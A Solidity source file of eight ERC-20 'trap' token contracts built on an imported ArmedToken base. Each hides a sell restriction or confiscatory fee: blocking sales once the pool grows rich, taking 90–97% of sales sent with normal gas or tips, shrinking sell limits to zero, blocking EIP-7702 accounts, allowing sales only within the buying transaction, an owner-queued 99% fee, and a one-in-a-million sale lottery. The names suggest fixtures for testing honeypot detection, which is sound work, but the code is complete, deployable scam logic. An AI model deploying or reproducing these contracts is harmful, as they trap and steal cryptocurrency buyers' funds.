// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ArmedToken} from "./TrapTokens.sol";

/// Can be sold while its pool is poor, and not once it has much more ether than it began with.
contract RichPoolToken is ArmedToken {
    IERC20 private constant _WETH = IERC20(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function _update(address from, address to, uint256 value) internal override {
        require(!_isSale(from, to) || _WETH.balanceOf(pair) < 180 ether, "TRANSFER_FAILED");
        super._update(from, to, value);
    }
}

/// Takes 97 % of a sale that was given as much gas as a wallet gives, and nothing of one with much more.
contract GasLeftToken is ArmedToken {
    address private immutable _fund;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_, address fund)
        ArmedToken(name_, symbol_, supply, owner_)
    {
        _fund = fund;
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 cut = _isSale(from, to) && gasleft() < 1_500_000 ? (value * 97) / 100 : 0;
        if (cut > 0) super._update(from, _fund, cut);
        super._update(from, to, value - cut);
    }
}

/// Takes 90 % of a sale that pays a proposer more than a gwei.
contract TipToken is ArmedToken {
    address private immutable _fund;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_, address fund)
        ArmedToken(name_, symbol_, supply, owner_)
    {
        _fund = fund;
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 cut = _isSale(from, to) && tx.gasprice > block.basefee + 1 gwei ? (value * 90) / 100 : 0;
        if (cut > 0) super._update(from, _fund, cut);
        super._update(from, to, value - cut);
    }
}

/// What may be sold at a time shrinks with each block, to nothing within days.
contract ShrinkingToken is ArmedToken {
    uint256 private immutable _start = block.number;
    uint256 private immutable _first;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {
        _first = supply / 20;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) {
            uint256 less = (block.number - _start) * (_first / 20_000);
            require(value <= (less > _first ? 0 : _first - less), "over the limit");
        }
        super._update(from, to, value);
    }
}

/// Accounts that delegate their code by EIP-7702 cannot sell.
contract DelegateTrapToken is ArmedToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function _update(address from, address to, uint256 value) internal override {
        if (_isSale(from, to) && from.code.length == 23) {
            bytes32 word;
            assembly {
                extcodecopy(from, 0, 0, 32)
                word := mload(0)
            }
            require(bytes3(word) != 0xef0100, "TRANSFER_FAILED");
        }
        super._update(from, to, value);
    }
}

/// Can be sold in the transaction that bought it, and not after it.
contract TransientToken is ArmedToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function _update(address from, address to, uint256 value) internal override {
        if (from == pair) {
            assembly {
                tstore(to, 1)
            }
        }
        if (_isSale(from, to)) {
            uint256 bought;
            assembly {
                bought := tload(from)
            }
            require(bought == 1, "TRANSFER_FAILED");
        }
        super._update(from, to, value);
    }
}

/// Takes 1 % of sales; a queued change raises that to 99 % at its time, and nobody is left to undo it.
contract FuseToken is ArmedToken {
    uint16 private _bps = 100;
    uint16 private _nextBps = 100;
    uint64 private _since;
    address private immutable _fund;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_, address fund)
        ArmedToken(name_, symbol_, supply, owner_)
    {
        _fund = fund;
    }

    function queueFee(uint16 bps, uint64 delay) external onlyOwner {
        _nextBps = bps;
        _since = uint64(block.timestamp) + delay;
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 bps = _since != 0 && block.timestamp >= _since ? _nextBps : _bps;
        uint256 cut = _isSale(from, to) ? (value * bps) / 10_000 : 0;
        if (cut > 0) super._update(from, _fund, cut);
        super._update(from, to, value - cut);
    }
}

/// One sale in a million goes through, by lot.
contract LotteryToken is ArmedToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function _update(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) {
            require(uint256(keccak256(abi.encode(block.prevrandao, from))) % 1_000_000 == 0, "TRANSFER_FAILED");
        }
        super._update(from, to, value);
    }
}
